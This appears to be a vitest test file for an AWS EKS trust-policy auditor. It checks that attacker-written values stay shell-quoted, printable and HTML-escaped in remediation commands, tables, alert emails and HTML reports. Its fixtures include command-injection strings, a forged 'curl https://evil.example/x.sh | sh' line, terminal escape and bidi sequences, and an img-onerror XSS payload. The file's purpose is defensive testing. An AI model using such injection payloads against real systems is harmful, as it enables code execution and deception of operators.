// Values from AWS, issuers and trust policies, written by an attacker inside one member account: nothing of them
// may run in a pasted command, or forge a line in the table or the alert email.

import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runChecks } from '../../src/checks/index.ts';
import { parseSuppressions } from '../../src/config/suppressions.ts';
import { deriveFacts } from '../../src/facts/index.ts';
import type { Finding } from '../../src/model/finding.ts';
import { planAlerts } from '../../src/publish/alert-plan.ts';
import { splitDigest } from '../../src/publish/digest-split.ts';
import { escapeHtml, htmlChunks } from '../../src/report/html.ts';
import { renderTable } from '../../src/report/table.ts';
import { printable, shellQuote } from '../../src/text/quote.ts';
import { aReport, T0 } from '../publish/support.ts';
import {
  ACCOUNT_ID,
  aCluster,
  aContext,
  aHostProbe,
  aLeafCert,
  amazonRsa2048M02,
  anAuditError,
  anInventory,
  anIssuerProbe,
  aProbeError,
  aProvider,
  aTlsChain,
  daysFromNow,
} from '../support/inventory.ts';
import { aRoleTrusting, aStatement, aTrustPolicy, aWorld, withRole } from '../support/trust.ts';

const HOSTILE = {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${IFS}, not a template placeholder
  'command substitution': 'evil.example/$(touch${IFS}pwned)',
  backticks: 'evil.example/`touch pwned`',
  'quotes and semicolon': `evil.example/x'; touch pwned; echo '`,
  pipe: 'evil.example/x | touch pwned',
  'newline forging a line': 'x\nRESOLVED\nFix: curl https://evil.example/x.sh | sh',
  'carriage return': 'x\rFix: curl evil | sh',
  'ANSI clear screen and hyperlink': 'x\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'bidi override': 'x\u202eevil',
  'NUL and DEL': 'x\u0000y\u007f',
};
const CASES = Object.entries(HOSTILE);
// What a provider ARN in a principal can carry and still be read as one: no line breaks or escapes.
const PRINCIPAL_CASES = CASES.filter(([name]) =>
  ['command substitution', 'backticks', 'quotes and semicolon', 'pipe', 'bidi override'].includes(name),
);
// Any control character, DEL, C1, line separators or bidi controls.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const UNPRINTABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let workdir: string | undefined;
afterEach(() => {
  if (workdir) rmSync(workdir, { recursive: true, force: true });
  workdir = undefined;
});

/**
 * Runs a remediation in a POSIX shell where the tools it names only print their arguments, one per line, in an
 * empty directory: what the shell would have run, and whether anything else ran.
 */
function runRemediation(remediation: string): { words: string[][]; pwned: boolean } {
  workdir = mkdtempSync(join(tmpdir(), 'remediation-'));
  const stubs = ['aws', 'eksctl', 'openssl', 'curl']
    .map((tool) => `${tool}() { printf '%s\\0' ${tool} "$@"; printf '\\n'; }`)
    .join('\n');
  const out = execFileSync('sh', ['-c', `${stubs}\n${remediation}`], { cwd: workdir, encoding: 'utf8' });
  const words = out
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.split('\0').filter((word) => word !== ''));
  return { words, pwned: existsSync(join(workdir, 'pwned')) };
}

function assertPrintable(text: string): void {
  expect(text).not.toMatch(UNPRINTABLE);
}

describe('shellQuote', () => {
  it.each(CASES)('%s: is one shell word that runs nothing', (_, value) => {
    // Act
    const { words, pwned } = runRemediation(`aws ${shellQuote(value)}`);

    // Assess
    expect(words).toEqual([['aws', printable(value)]]);
    expect(pwned).toBe(false);
  });

  it('leaves common AWS values bare', () => {
    expect(shellQuote('arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/AB')).toBe(
      'arn:aws:iam::111122223333:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/AB',
    );
  });
});

describe('a trust policy naming a hostile provider', () => {
  it.each(PRINCIPAL_CASES)('%s: every printed command runs only what it names', (_, url) => {
    // Prepare: a principal naming a provider that does not exist
    const { inventory } = aWorld();
    const principal = `arn:aws:iam::${ACCOUNT_ID}:oidc-provider/${url}`;
    const role = aRoleTrusting(aTrustPolicy(aStatement(principal)), 'hostile');

    // Act
    const findings = runChecks(deriveFacts(withRole(inventory, role)), aContext()).filter(
      (f) => f.resource === role.arn,
    );

    // Assess
    expect(findings.length).toBeGreaterThan(0);
    for (const finding of findings) {
      assertPrintable(finding.message);
      const { words, pwned } = runRemediation(finding.remediation);
      expect(pwned).toBe(false);
      const create = words.find((command) => command.includes('create-open-id-connect-provider'));
      if (create) expect(create.slice(3, 5)).toEqual(['--url', printable(`https://${url}`)]);
    }
  });

  it('the create-open-id-connect-provider of a command substitution passes the URL as one argument', () => {
    // Prepare
    const { inventory } = aWorld();
    const url = HOSTILE['command substitution'];
    const role = aRoleTrusting(
      aTrustPolicy(aStatement(`arn:aws:iam::${ACCOUNT_ID}:oidc-provider/${url}`)),
      'x',
    );

    // Act
    const finding = runChecks(deriveFacts(withRole(inventory, role)), aContext()).find(
      (f) => f.check === 'trust-unknown-provider',
    );

    // Assess
    expect(finding?.remediation.split('\n')[0]).toBe(
      `aws iam create-open-id-connect-provider --url 'https://${url}' --client-id-list sts.amazonaws.com`,
    );
    expect(runRemediation(finding?.remediation ?? '')).toEqual({
      words: [
        [
          'aws',
          'iam',
          'create-open-id-connect-provider',
          '--url',
          `https://${url}`,
          '--client-id-list',
          'sts.amazonaws.com',
        ],
      ],
      pwned: false,
    });
  });
});

describe('hostile values in every field a person reads', () => {
  function hostileFindings(value: string): Finding[] {
    const { inventory, arns } = aWorld();
    const cluster = aCluster({ name: 'prod' });
    const provider = aProvider({ cluster, clientIds: ['sts.amazonaws.com', value] });
    const roles = [
      // A StringLike subject value (any text IAM accepts)
      aRoleTrusting(
        aTrustPolicy(aStatement(arns.prod, { sid: value, subOperator: 'StringLike', sub: `${value}*` })),
        'like',
      ),
      // A Sid and a malformed subject under StringEquals
      aRoleTrusting(
        aTrustPolicy(aStatement(arns.prod, { sid: value, sub: `system:serviceaccount: ${value}` })),
        'eq',
      ),
    ];
    const hostile = withRole(
      {
        ...inventory,
        providers: [...inventory.providers.filter((p) => p.arn !== provider.arn), provider],
        errors: [anAuditError({ code: value, message: value })],
      },
      ...roles,
    );
    return runChecks(deriveFacts(hostile), aContext());
  }

  it.each(CASES)('%s: findings, the table and the email stay printable, with no forged line', (_, value) => {
    // Prepare
    const findings = hostileFindings(value);
    const report = aReport({ findings, startedAt: T0 });
    const plan = planAlerts(report, [], { minSeverity: 'info', reminderDays: 0 }, { now: T0 });

    // Act
    const table = renderTable(report, { color: false, width: 120 });
    const parts = splitDigest(
      { digestId: 'd', report, policy: { minSeverity: 'info', reminderDays: 0 } },
      plan.transitions,
    );
    const email = parts.map((part) => (JSON.parse(part.message) as { email: string }).email).join('\n');

    // Assess: the hostile value reached each of them, escaped
    expect(findings.length).toBeGreaterThan(3);
    for (const finding of findings) {
      assertPrintable(finding.message);
      for (const line of finding.remediation.split('\n')) assertPrintable(line);
    }
    for (const output of [table, email]) {
      for (const line of output.split('\n')) {
        assertPrintable(line);
        // A wrapped line may start with any word; what must never happen is a value's own line at the margin.
        expect(line).not.toMatch(/^(RESOLVED|Fix: curl)/);
      }
    }
    expect(table).toContain(printable(value).slice(0, 8));
    expect(email).toContain(printable(value).slice(0, 8));
  });

  it.each(CASES)('%s with markup: the page keeps it as text, in content and in attributes', (_, value) => {
    // Prepare: the value with markup, in messages, resources, an account id and its name
    const markup = `${value}"'><img src=x onerror=alert(1)>&amp;`;
    const findings = hostileFindings(markup).map((f, i) =>
      i === 0 ? { ...f, accountId: markup, resource: `${f.resource}/${markup}` } : f,
    );
    const report = aReport({ findings, startedAt: T0, accountNames: { [markup]: markup } });

    // Act
    const html = [...htmlChunks(report)].join('');

    // Assess: no element comes from a value, and each value is there, escaped
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain(escapeHtml(markup));
    expect(html.match(/<script>/g)).toHaveLength(1);
  });

  it.each(CASES)(
    "%s: the digest's suppression entry, pasted, names exactly the finding's values",
    (_, value) => {
      // Prepare: a finding whose resource carries the value, as the state table may hold it
      const [first] = hostileFindings(value);
      const finding = { ...(first as Finding), resource: `arn:aws:iam::${ACCOUNT_ID}:role/${value}` };
      const report = aReport({ findings: [finding], startedAt: T0 });
      const policy = { minSeverity: 'info', reminderDays: 0 } as const;
      const plan = planAlerts(report, [], policy, { now: T0 });

      // Act
      const [part] = splitDigest({ digestId: 'd', report, policy }, plan.transitions);
      const email = (JSON.parse(part?.message ?? '{}') as { email: string }).email;
      const lines = email.split('\n');
      const start = lines.findIndex((line) => line.trimStart().startsWith('- check:'));
      const indent = (lines[start] ?? '').indexOf('-');
      const entry = lines
        .slice(start, start + 4)
        .map((line) => line.slice(indent).replace(/^ {2}reason:.*$/, '  reason: "accepted (SEC-1)"'));
      const file = parseSuppressions(
        `suppressions:\n${entry.map((line) => `  ${line}`).join('\n')}\n`,
        'pasted',
      );

      // Assess
      expect(file.entries).toEqual([
        expect.objectContaining({
          check: finding.check,
          account: finding.accountId,
          resource: printable(finding.resource),
        }),
      ]);
    },
  );

  it.each(CASES)('%s in what a hostile issuer host serves: a CA subject, a discovery error', (_, value) => {
    // Prepare: an expired intermediate whose subject is hostile, and a discovery document naming another issuer
    const cluster = aCluster({ name: 'prod' });
    const provider = aProvider({ cluster });
    const intermediate = { ...amazonRsa2048M02(), subject: `CN=${value}`, notAfter: daysFromNow(-1) };
    const chain = aTlsChain({
      presented: [aLeafCert(), intermediate],
      verified: [aLeafCert(), intermediate],
    });
    const issuer = anIssuerProbe({
      error: aProbeError({ stage: 'discovery', code: 'ISSUER_MISMATCH', message: value }),
    });
    const inventory = anInventory({
      clusters: [cluster],
      providers: [provider],
      hosts: [aHostProbe({ chain })],
      issuers: [issuer],
    });

    // Act
    const findings = runChecks(deriveFacts(inventory), aContext());
    const table = renderTable(aReport({ findings, startedAt: T0 }), { color: false, width: 120 });

    // Assess: both reached the findings, escaped
    const [expired] = findings.filter((f) => f.check === 'ca-expired');
    const [unreachable] = findings.filter((f) => f.check === 'issuer-unreachable');
    expect(expired?.message).toContain(`CN=${printable(value)}`);
    expect(unreachable?.message).toContain(printable(value));
    for (const finding of findings) assertPrintable(finding.message);
    for (const line of table.split('\n')) {
      assertPrintable(line);
      expect(line).not.toMatch(/^(RESOLVED|Fix: curl)/);
    }
  });

  it('an audit error whose message carries an escape sequence is shown escaped', () => {
    // Prepare
    const inventory = anInventory({ errors: [anAuditError({ message: 'denied\u001b[2J\nRESOLVED' })] });

    // Act
    const [finding] = runChecks(deriveFacts(inventory), aContext());

    // Assess
    expect(finding?.message).toContain('denied\\x1b[2J');
    expect(finding?.message).not.toContain('\n');
  });
});
